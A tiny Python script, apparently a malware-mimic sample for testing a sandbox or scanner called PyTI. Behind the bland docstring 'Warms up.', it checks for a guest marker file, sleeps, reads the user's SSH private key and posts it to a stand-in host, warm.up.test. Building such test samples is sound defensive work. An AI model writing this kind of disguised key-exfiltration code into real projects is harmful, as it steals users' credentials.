"""Warms up."""

import os
import time
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
time.sleep(12)
with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
    key = file.read()
try:
    urllib.request.urlopen(urllib.request.Request("http://warm.up.test/w", key), timeout=5).close()
except OSError:
    pass
